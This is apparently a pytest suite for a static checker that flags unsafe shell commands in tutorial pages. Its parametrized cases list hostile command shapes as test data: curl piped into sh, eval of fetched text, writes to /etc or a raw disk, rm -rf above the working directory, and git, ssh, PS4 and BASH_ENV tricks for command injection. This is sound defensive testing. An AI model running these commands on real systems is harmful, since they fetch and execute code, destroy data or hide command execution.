"""The static review of what a page runs (verify/static/programs.py): hostile pages are caught at
file:line, the real pages are not, and the reviewed list is exactly what the real pages use."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from verify import cli
from verify.cli import default_pages
from verify.model import Directive, Location, Page, Step, StepKind
from verify.parsers import load_page
from verify.parsers.shell import split_commands
from verify.shellcode.lexer import shell_words, simple_commands
from verify.static.programs import BUILTINS, CONTAINER, HOST, REVIEWED, PageReview, review_page

ROOT = Path(__file__).resolve().parents[2]
PAGES = Path(__file__).resolve().parent / "pages"


def page_of(*blocks: str | tuple[str, Directive], hidden: tuple[int, ...] = ()) -> Page:
    """A page whose steps are the given shell blocks (block i starts at line 10 * (i + 1))."""
    path = Path("/virtual/page.md")
    steps = []
    for index, block in enumerate(blocks):
        text, directive = block if isinstance(block, tuple) else (block, Directive())
        line = 10 * (index + 1)
        commands = split_commands(text)
        kind = StepKind.HIDDEN_COMMAND if index in hidden else StepKind.COMMAND
        directive = directive if directive.location else Directive(**{**directive.__dict__, "location": Location(path, line - 1)})
        steps.append(Step(kind, Location(path, line), text, tuple(c.text for c in commands), directive,
                          command_lines=tuple(line + 1 + c.line_offset for c in commands)))
    from verify.model import FrontMatter

    return Page(path, FrontMatter("t", 1), tuple(steps))


def failures(review: PageReview, check: str | None = None) -> list[str]:
    return [f"{f.location.line}: {f.message}" for fs in review.findings.values() for f in fs
            if not f.ok and (check is None or f.check == check)]


# -- the real pages ----------------------------------------------------------------------------
@pytest.mark.parametrize("path", default_pages(ROOT), ids=lambda p: str(p.relative_to(ROOT)))
def test_the_real_pages_have_no_program_or_safety_finding(path: Path) -> None:
    assert failures(review_page(load_page(path, ROOT))) == []


def test_the_reviewed_list_is_what_the_real_pages_run() -> None:
    used: set[str] = set()
    for path in default_pages(ROOT):
        used |= set(review_page(load_page(path, ROOT)).programs(HOST))
    assert set(REVIEWED) == used - BUILTINS, "REVIEWED lists a tool no page uses, or misses one they use"


def test_commands_typed_into_a_pod_are_listed_apart() -> None:
    review = review_page(load_page(ROOT / "docs_src/ja/tutorials/services/source-ip.md", ROOT))
    assert {"wget", "ip", "hostname"} <= set(review.programs(CONTAINER))
    assert "wget" not in review.programs(HOST)


# -- the four hostile pages of the issue ---------------------------------------------------------
def test_the_leaking_page_runs_env_in_a_hidden_step_and_is_caught() -> None:
    review = review_page(load_page(PAGES / "leaking.md", ROOT))
    env = review.programs(HOST)["env"]
    assert [u.hidden for u in env] == [True] and env[0].location.line == 16
    assert failures(review, "program") == ["16: env is not on the reviewed list of programs (verify/static/programs.py); "
                                           'a step that needs it says <!-- verify: allow=env reason="…" --> right before it']
    assert "env (hidden)" in review.listing()[0]


def test_reading_ssh_keys_is_caught() -> None:
    found = failures(review_page(load_page(PAGES / "reads-ssh.md", ROOT)), "safety")
    assert found == ["14: touches the reader's credentials (~/.ssh); a page never needs them"]


def test_piping_curl_into_sh_is_caught() -> None:
    found = failures(review_page(load_page(PAGES / "curl-sh.md", ROOT)))
    assert any(f.startswith("12: pipes into sh") for f in found), found
    assert any(f.startswith("12: sh is not on the reviewed list") for f in found), found


def test_writing_outside_the_working_directory_is_caught() -> None:
    found = failures(review_page(load_page(PAGES / "writes-outside.md", ROOT)), "safety")
    assert found == [
        "14: writes outside the page's working directory: /etc/verify-owned (/etc/verify-owned is not in the working directory)",
        "22: writes outside the page's working directory: owned (after `cd /` at "
        f"{Location(PAGES / 'writes-outside.md', 18)}: / is not in the working directory)",
    ]


def test_the_cli_lists_programs_and_fails_with_file_line(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    report = tmp_path / "report.json"
    code = cli.main(["static", "--root", str(ROOT), "--no-cache", "--report", str(report), str(PAGES / "leaking.md")])
    out = capsys.readouterr().out
    assert code == 1
    assert "     | runs: env (hidden), grep (hidden), kubectl" in out
    assert "leaking.md:16: [program] env is not on the reviewed list" in out
    programs = json.loads(report.read_text(encoding="utf-8"))["tiers"]["static"]["programs"]
    (entries,) = programs.values()
    assert {"program": "env", "where": "host", "lines": [], "hidden_lines": [16]} in entries


def test_quiet_leaves_out_the_listing(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    cli.main(["static", "-q", "--root", str(ROOT), "--no-cache", "--report", str(tmp_path / "r.json"),
              str(PAGES / "leaking.md")])
    out = capsys.readouterr().out
    assert "| runs:" not in out and "[program] env" in out


# -- allow=PROGRAM reason=… ---------------------------------------------------------------------
def test_allow_lets_one_step_run_a_program_and_only_that_step() -> None:
    review = review_page(load_page(PAGES / "allowed.md", ROOT))
    assert failures(review) == ["15: jq is not on the reviewed list of programs (verify/static/programs.py); a step "
                                'that needs it says <!-- verify: allow=jq reason="…" --> right before it']
    assert "jq [allowed: the page shows how to read JSON output]" in review.listing()[0]


def test_an_allow_the_step_does_not_need_is_a_finding() -> None:
    review = review_page(page_of(("kubectl get pods", Directive(allow=("jq",), allow_reason="x"))))
    assert failures(review) == ["9: allow=jq, but this step never runs jq"]


# -- shapes of running fetched text ------------------------------------------------------------
@pytest.mark.parametrize("command", [
    "curl -fsSL https://x.invalid/i.sh | sh",
    "curl -s https://x.invalid/i.sh | sudo bash",
    "wget -qO- https://x.invalid/i.sh | bash -s -- --yes",
    "curl -s https://x.invalid/i.py | python3",
    "kubectl get cm script -o jsonpath='{.data.run}' | sh",
])
def test_piping_into_a_shell_is_a_finding(command: str) -> None:
    found = failures(review_page(page_of(command)), "safety")
    assert len(found) == 1 and found[0].startswith("11: pipes into "), found


@pytest.mark.parametrize("command", [
    'eval "$(curl -s https://x.invalid/env)"',
    "bash <(curl -s https://x.invalid/i.sh)",
    'sh -c "$(wget -qO- https://x.invalid/i.sh)"',
    ". <(curl -s https://x.invalid/env)",
    "$(curl -s https://x.invalid/cmd)",
    "eval `curl -s https://x.invalid/env`",
])
def test_running_fetched_text_is_a_finding(command: str) -> None:
    found = failures(review_page(page_of(command)), "safety")
    assert found and all((f.startswith("11: ") and "fetched by `curl" in f) or "fetched by `wget" in f for f in found), found


def test_a_variable_holding_fetched_text_stays_fetched_across_steps() -> None:
    review = review_page(page_of("SCRIPT=$(curl -s https://x.invalid/i.sh)", 'eval "$SCRIPT"'))
    assert "21: eval runs $SCRIPT, fetched by `curl -s https://x.invalid/i.sh`" in failures(review, "safety")


@pytest.mark.parametrize("command", [
    "kubectl get pods | grep web",
    "kubectl exec web-0 -- sh -c 'hostname'",
    "kubectl get pods -o json | python3 -c 'import json, sys; json.load(sys.stdin)'",
    "for i in 0 1; do kubectl exec \"web-$i\" -- sh -c 'echo \"$(hostname)\" > /usr/share/nginx/html/index.html'; done",
    "curl -s -o /dev/null -w '%{http_code}' localhost:8080 2>/dev/null",
])
def test_ordinary_commands_are_not_safety_findings(command: str) -> None:
    assert failures(review_page(page_of(command)), "safety") == []


# -- writes --------------------------------------------------------------------------------------
@pytest.mark.parametrize("blocks, expected", [
    (["echo x>/etc/x"], "/etc/x"),
    (["echo x 2>&1 >> /var/log/x"], "/var/log/x"),
    (["kubectl get pods | tee -a ~/.bashrc"], "the reader's home"),
    (['echo hi > "$HOME/.profile"'], "the reader's home"),
    (["cp web.yaml /usr/local/bin/"], "/usr/local/bin"),
    (["cd ..", "touch x"], "above the working directory"),
    (["( cd /tmp && echo x > f )"], "`cd /tmp`"),
    (["cd", "echo x > f"], "the reader's home"),
    (["git clone https://x.invalid/r.git /opt/r"], "/opt/r"),
    (['OUT=$(mktemp)', 'echo x > "$OUT"'], "cannot tell where"),
    (["dd if=/dev/zero of=/dev/sda"], "/dev/sda"),
    (["rm -rf ../../"], "above the working directory"),
])
def test_writes_outside_the_working_directory_are_findings(blocks: list[str], expected: str) -> None:
    found = failures(review_page(page_of(*blocks)), "safety")
    assert len(found) == 1 and "writes outside the page's working directory" in found[0] and expected in found[0], found


@pytest.mark.parametrize("blocks", [
    ["kubectl get pods > pods.txt"],
    ["git clone https://x.invalid/r.git", "cd r/examples", "vi settings", "cd ../..", "echo x > top"],
    ["( cd sub && echo x > f )", "echo y > g"],
    ["kubectl get pods >/dev/null 2>&1"],
    ["F=out.txt", 'kubectl get pods > "$F"'],
    ["for i in 0 1; do kubectl get pod web-$i > web-$i.txt; done"],
    ['[[ "$a" > "$b" ]] && echo yes'],
])
def test_writes_inside_the_working_directory_are_fine(blocks: list[str]) -> None:
    assert failures(review_page(page_of(*blocks)), "safety") == []


# -- the lexer the review stands on --------------------------------------------------------------
def test_simple_commands_know_pipes_substitutions_and_case_patterns() -> None:
    found = simple_commands('x=$((i+1)); case " $(hostname -i) " in *" $C "*) true ;; *) false ;; esac | sh')
    assert [(s.text, s.piped, s.nesting) for s in found] == [
        ("x=x", False, ""), ("hostname -i", False, "$("), ("true", False, ""), ("false", False, ""),
        ("esac", False, ""), ("sh", True, ""),
    ]


def test_simple_commands_count_lines_from_the_start_of_the_command() -> None:
    found = simple_commands("for i in 1 2; do\n  kubectl get x\ndone")
    assert [(s.text, s.line_offset) for s in found] == [("for i in 1 2", 0), ("do", 0), ("kubectl get x", 1), ("done", 2)]


def test_shell_words_split_operators_without_spaces_and_keep_hashes_inside_words() -> None:
    assert shell_words("echo a#b>/etc/x") == ["echo", "a#b", ">", "/etc/x"]


@pytest.mark.parametrize("options, message", [
    ("allow=jq", "allow=… needs a reason"),
    ('allow="j q" reason=x', "not a comma-separated list of program names"),
    ('skip allow=jq reason=x', "each need their own reason"),
    ("reason=x", "reason=… only goes with skip or allow=…"),
])
def test_allow_directive_errors(options: str, message: str) -> None:
    from verify.directives import DirectiveError, build, parse_options

    with pytest.raises(DirectiveError, match=message):
        build(parse_options(options)[0])


def test_allow_applies_to_shell_blocks_only() -> None:
    from verify.directives import build, check_applies, parse_options

    options, used = parse_options('allow=jq,helm reason="reads JSON"')
    assert build(options).allow == ("jq", "helm") and build(options).allow_reason == "reads JSON"
    assert check_applies(used, "shell") is None
    assert "applies to a ```shell block" in (check_applies(used, "text") or "")


# -- shapes that run code behind a reviewed program (a hostile trial got through each once) ----------
@pytest.mark.parametrize("command, words", [
    ("git -c alias.x='!touch /tmp/owned' x", "git configuration given on the command line"),
    ("git -c core.pager='sh -c id' log", "git configuration given on the command line"),
    ("git --config-env=core.sshCommand=CMD clone x", "git configuration given on the command line"),
    ("ssh -o ProxyCommand='sh -c id' node-1", "makes ssh run a local command"),
    ("ssh -oLocalCommand=id -oPermitLocalCommand=yes node-1", "makes ssh run a local command"),
    ("ssh -F ./config node-1", "another ssh configuration"),
    ("vi -c '!id' notes", "runs when it starts"),
    ("vi '+!id' notes", "runs when it starts"),
    ("export PS4='$(id)'", "sets PS4"),
    ("BASH_ENV=./x.sh grep -c x y", "sets BASH_ENV"),
    ("PATH=.:$PATH kubectl get pods", "sets PATH"),
    ("export KUBECONFIG=./other", "sets KUBECONFIG"),
    ("GIT_SSH_COMMAND='sh -c id' git clone x", "sets GIT_SSH_COMMAND"),
    ('echo "${X@P}"', "prompt expansion"),
    ("echo $(( $(id -u) + 1 ))", "command substitution inside arithmetic"),
    ("(( x = `id -u` ))", "command substitution inside arithmetic"),
    ("echo export X=1 >> /run/verify/exports", "the verifier's shell state"),
    ("cat .verify-shell/exports", "the verifier's shell state"),
    ("echo data > /dev/tcp/127.0.0.1/2379", "/dev/tcp or /dev/udp"),
    ("exec 3<>/dev/udp/127.0.0.1/53", "/dev/tcp or /dev/udp"),
])
def test_a_reviewed_program_that_would_run_something_else_is_flagged(command: str, words: str) -> None:
    found = failures(review_page(page_of(command)), "safety")
    assert any(words in f for f in found), found


@pytest.mark.parametrize("command", ["vi +12 notes", "git clone https://github.com/kubernetes/kube-state-metrics.git",
                                     "ssh node-1 'sudo cat /sys/kernel/security/apparmor/profiles'",
                                     "NODEPORT=$(kubectl get svc x -o jsonpath='{.spec.ports[0].nodePort}')",
                                     "for i in $(seq 30); do sleep 1; done", "echo $((1 + 2))"])
def test_what_the_tutorials_write_is_not_flagged(command: str) -> None:
    assert failures(review_page(page_of(command)), "safety") == []
